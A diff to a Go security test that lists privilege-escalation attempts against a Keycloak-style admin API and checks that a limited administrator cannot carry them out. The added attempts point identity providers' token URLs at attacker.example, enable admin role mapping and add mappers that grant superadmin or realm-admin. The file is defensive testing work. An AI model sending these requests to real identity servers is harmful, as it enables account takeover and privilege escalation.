@@ -126,6 +126,9 @@ func attempts() []attempt {
 		{"DELETE", "/groups/{g:admins}", ""},
 		{"DELETE", "/groups/{g:admins}/role-mappings/realm", `[{"id":"{r:superadmin}","name":"superadmin"}]`},
 		{"DELETE", "/groups/{g:admins}/role-mappings/clients/{c:realm-management}", `[{"id":"{a:realm-admin}","name":"realm-admin"}]`},
+		{"POST", "/partialImport", `{"ifResourceExists":"OVERWRITE","identityProviders":[{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t"}}]}`},
+		{"POST", "/partialImport", `{"ifResourceExists":"SKIP","identityProviders":[{"alias":"theirs","providerId":"oidc","config":{"allowAdminRoleMapping":"true"}}],
+			"identityProviderMappers":[{"name":"d","identityProviderAlias":"theirs","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"superadmin"}}]}`},
 		// those with more rights
 		{"PUT", "/users/{u:boss}/reset-password", `{"type":"password","value":"` + password + `"}`},
 		{"PUT", "/users/{u:chief}/reset-password", `{"type":"password","value":"` + password + `"}`},
@@ -147,6 +150,16 @@ func attempts() []attempt {
 		{"DELETE", "/users/{u:boss}/consents/app", ""},
 		{"POST", "/users/{u:boss}/federated-identity/x", `{"userId":"mine","userName":"mine"}`},
 		{"DELETE", "/users/{u:boss}/federated-identity/x", ""},
+		// identity providers and their mappers
+		{"POST", "/identity-provider/instances", `{"alias":"mine","providerId":"oidc","config":{"allowAdminRoleMapping":"true"}}`},
+		{"POST", "/identity-provider/instances", `{"alias":"mine","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t"}}`},
+		{"PUT", "/identity-provider/instances/trusted", `{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t","allowAdminRoleMapping":"true"}}`},
+		{"PUT", "/identity-provider/instances/trusted", `{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t"}}`},
+		{"POST", "/identity-provider/instances/trusted/mappers", `{"name":"a","identityProviderAlias":"trusted","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"realm-management.realm-admin"}}`},
+		{"POST", "/identity-provider/instances/trusted/mappers", `{"name":"b","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"superadmin"}}`},
+		{"POST", "/identity-provider/instances/trusted/mappers", `{"name":"c","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-group-idp-mapper","config":{"group":"/admins/below"}}`},
+		{"PUT", "/identity-provider/instances/trusted/mappers/" + giverID, `{"name":"giver","identityProviderAlias":"trusted","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"realm-management.realm-admin"}}`},
+		{"PUT", "/identity-provider/instances/trusted/mappers/" + giverID, `{"name":"giver","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"plain"}}`},
 		{"DELETE", "/users/{u:boss}/role-mappings/clients/{c:realm-management}", `[{"id":"{a:realm-admin}","name":"realm-admin"}]`},
 		{"DELETE", "/users/{u:boss}/role-mappings/realm", ""},
 		{"DELETE", "/sessions/{session}", ""},
@@ -237,7 +250,8 @@ const hardcoded = `{"name":"role","protocol":"openid-connect","protocolMapper":"
 var harmless = map[string]string{
 	"POST /admin/realms": "another realm; needs a role of the master realm", "DELETE /admin/realms/{realm}": "nothing is left to have rights over",
 	"POST /admin/realms/{realm}/testSMTPConnection": "sends a mail to whoever asks", "POST /admin/realms/{realm}/clear-": "caches", "/default-default-client-scopes": "which scopes new clients get", "/default-optional-client-scopes": "the same",
-	"POST /admin/realms/{realm}/partial-export": "reads", "/identity-provider/": "switched off", "PUT /admin/realms/{realm}/users-management-permissions": "switched off",
+	"POST /admin/realms/{realm}/partial-export": "reads", "/management/permissions": "switched off", "/identity-provider/import-config": "reads", "/identity-provider/upload-certificate": "reads",
+	"DELETE /admin/realms/{realm}/identity-provider/instances/{alias}": "takes away", "DELETE /admin/realms/{realm}/identity-provider/instances/{alias}/mappers/{mapper}": "takes away", "PUT /admin/realms/{realm}/users-management-permissions": "switched off",
 	"/localization/": "texts", "/components": "keys, policies and profiles: whoever manages the realm may choose who signs its tokens", "/client-policies/": "conditions on clients",
 	"/authentication/": "how one proves who one is", "PUT /admin/realms/{realm}/client-scopes/{scope}": "names and texts", "DELETE /admin/realms/{realm}/client-scopes/{scope}": "takes away",
 	"PUT /admin/realms/{realm}/client-templates/{scope}": "names and texts", "DELETE /admin/realms/{realm}/client-templates/{scope}": "takes away",
@@ -344,6 +358,8 @@ func newTown(t *testing.T, s *harness.Server, name string, rights ...string) *to
 			"org.keycloak.storage.UserStorageProvider":[{"name":"ldap","providerId":"ldap","config":{"enabled":["false"],"bindCredential":["planted-bind-credential"]}}]},
 		"roles":{"realm":[{"name":"plain"},{"name":"superadmin","composite":true,"composites":{"client":{"realm-management":["realm-admin"]}}}],
 			"client":{"app":[{"name":"inner"}]}},
+		"identityProviders":[{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://trusted.example/t"}}],
+		"identityProviderMappers":[{"id":"` + giverID + `","name":"giver","identityProviderAlias":"trusted","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"superadmin"}}],
 		"groups":[{"name":"admins","clientRoles":{"realm-management":["realm-admin"]},"realmRoles":["superadmin"],"subGroups":[{"name":"below"}]},{"name":"plain"}],
 		"clients":[{"clientId":"web","enabled":true,"publicClient":true,"directAccessGrantsEnabled":true,"redirectUris":["http://app.example/*"]},
 			{"clientId":"app","enabled":true,"secret":"app-secret","protocolMappers":[` + audience + `]},
@@ -389,6 +405,7 @@ func newTown(t *testing.T, s *harness.Server, name string, rights ...string) *to
 }
 
 const (
+	giverID    = "0d2c4f0e-6e57-4a3b-8d3c-3f2a52d1a002"
 	audienceID = "0d2c4f0e-6e57-4a3b-8d3c-3f2a52d1a001"
 	audience   = `{"id":"` + audienceID + `","name":"audience","protocol":"openid-connect","protocolMapper":"oidc-audience-mapper","config":{"included.custom.audience":"x","access.token.claim":"true"}}`
 )
@@ -473,6 +490,25 @@ func (w *town) check(what string, had []string) bool {
 		for _, right := range rights(token) {
 			if !slices.Contains(had, right) {
 				w.t.Errorf("after %s: the attacker, who had %v, has %s as %s", what, had, right, who)
+				ok = false
+			}
+		}
+	}
+	var providers []struct {
+		Alias  string
+		Config map[string]string
+	}
+	w.must(w.root.Get(w.t.Context(), "/"+w.realm+"/identity-provider/instances", &providers))
+	for _, p := range providers {
+		if p.Config["allowAdminRoleMapping"] != "" || p.Alias == "trusted" && p.Config["tokenUrl"] != "https://trusted.example/t" {
+			w.t.Errorf("after %s by %v: the provider %s has %v", what, had, p.Alias, p.Config)
+			ok = false
+		}
+		var mappers []struct{ Name string }
+		w.must(w.root.Get(w.t.Context(), "/"+w.realm+"/identity-provider/instances/"+p.Alias+"/mappers", &mappers))
+		for _, m := range mappers {
+			if p.Alias != "trusted" || m.Name != "giver" {
+				w.t.Errorf("after %s by %v: the provider %s gives rights by the mapper %s", what, had, p.Alias, m.Name)
 				ok = false
 			}
 		}
